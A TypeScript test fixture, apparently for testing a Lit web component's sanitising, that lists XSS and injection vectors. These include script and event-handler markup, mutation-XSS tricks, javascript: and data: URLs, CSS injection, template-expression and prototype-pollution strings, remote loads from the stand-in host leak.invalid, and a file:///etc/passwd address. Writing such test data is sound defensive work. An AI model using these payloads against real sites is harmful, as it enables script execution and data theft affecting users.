/**
 * Strings that run, load or change something where they are taken for markup, for an address or for CSS. What runs
 * calls `ran()`; what loads asks `leak.invalid`.
 */

const MARKUP = [
  '<script>ran()</script>',
  '"><script>ran()</script>',
  '</span><script src="https://leak.invalid/x.js"></script>',
  '<img src=x onerror=ran()>',
  '<img src=x onerror="ran()"//',
  '"><img src="x:x" onerror="ran()">',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran()"><text y="20">x</text></a></svg>',
  '<svg><use href="https://leak.invalid/x.svg#y"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  '<math href="javascript:ran()">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '<iframe src="javascript:ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="https://leak.invalid/x"></object>',
  '<embed src="https://leak.invalid/x">',
  '<link rel=stylesheet href="https://leak.invalid/x.css">',
  '<style>@import "https://leak.invalid/x.css"; * { display: none !important }</style>',
  '<base href="https://leak.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://leak.invalid/">',
  '<form action="https://leak.invalid/"><input name=a autofocus onfocus=ran()><button>Go</button></form>',
  '<input onfocus=ran() autofocus>',
  '<details open ontoggle=ran()><summary>x</summary></details>',
  '<video><source onerror=ran()></video>',
  '<audio src=x onerror=ran()></audio>',
  '<video poster="https://leak.invalid/x.png" src="https://leak.invalid/x.mp4"></video>',
  '<picture><source srcset="https://leak.invalid/x.png"></picture>',
  '<table background="https://leak.invalid/x.png"><td>x</table>',
  '<marquee onstart=ran()>x</marquee>',
  '<p style="background:url(https://leak.invalid/x.png);position:fixed;inset:0">x</p>',
  '<div id="litHtmlVersions" name="getRootNode" class="root" part="dialog" slot="error">x</div>',
  '<template><img src=x onerror=ran()></template>',
  '<template shadowrootmode="open"><script>ran()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<textarea></textarea><img src=x onerror=ran()>',
  '<title><img src=x onerror=ran()></title>',
  '<!--><img src=x onerror=ran()>-->',
  '<![CDATA[<img src=x onerror=ran()>]]>',
  '<?xml version="1.0"?><x onclick="ran()"/>',
  '<x-ran onclick=ran() tabindex=1 is=y></x-ran>',
  '<lectern-session-list src="https://leak.invalid/feed.json"></lectern-session-list>',
  '<a href="java&#x73;cript:ran()">x</a>',
  '<a href=" &#1;javascript:ran()">x</a>',
  '<a href="https://example.org/" target="_blank" ping="https://leak.invalid/">x</a>',
  '<a href="data:text/html,<script>ran()</script>">x</a>',
  '[x](javascript:ran())',
  '![x](javascript:ran())',
  '[x](https://example.org/ "onmouseover=ran()")',
  '<javascript:ran()>',
  '[x]: javascript:ran()\n\n[x]',
] as const;

const ADDRESSES = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  '\u0001javascript:ran()',
  'java\nscript:ran()',
  'java\tscript:ran()',
  'javascript://example.org/%0aran()',
  'javascript&colon;ran()',
  'data:text/html,<script>ran()</script>',
  'data:image/svg+xml,<svg onload="ran()"/>',
  'vbscript:ran()',
  'blob:https://example.org/x',
  'file:///etc/passwd',
  'view-source:https://example.org/',
  'x-app://open',
  '#" onclick="ran()',
] as const;

const STYLES = [
  'red; background: url(https://leak.invalid/x.png)',
  'red} * { display: none } .x {',
  'url(https://leak.invalid/x.png)',
  'var(--x, url(https://leak.invalid/x.png))',
  'expression(ran())',
  '#fff/**/;position:fixed',
] as const;

const TEXTS = [
  '${ran()}',
  '{{ran()}}',
  '{{constructor.constructor("ran()")()}}',
  '__proto__',
  'constructor',
  'toString',
  '<!--?lit$123$-->',
  '?lit$000000000$',
  '\u202Etxet sdrawkcab\u202C',
  '&lt;script&gt;ran()&lt;/script&gt;',
] as const;

export const VECTORS: readonly string[] = [...MARKUP, ...ADDRESSES, ...STYLES, ...TEXTS];

/** What Lit itself would take for a template, a directive, a node or nothing. JSON can hold all of them. */
export const LIT_SHAPED: readonly unknown[] = [
  { _$litType$: 1, strings: ['<img src=x onerror=ran()>'], values: [] },
  { _$litType$: 1, strings: { raw: ['<b>x</b>'], 0: '<b>x</b>', length: 1 }, values: [] },
  { _$litDirective$: {}, values: ['<b>x</b>'] },
  { nodeType: 1, nodeName: 'IMG' },
  { toString: null, valueOf: null },
  { then: 'x' },
  { kind: 'html', value: { _$litType$: 1 } },
  [['<b>x</b>']],
  { __proto__: { polluted: true } },
];
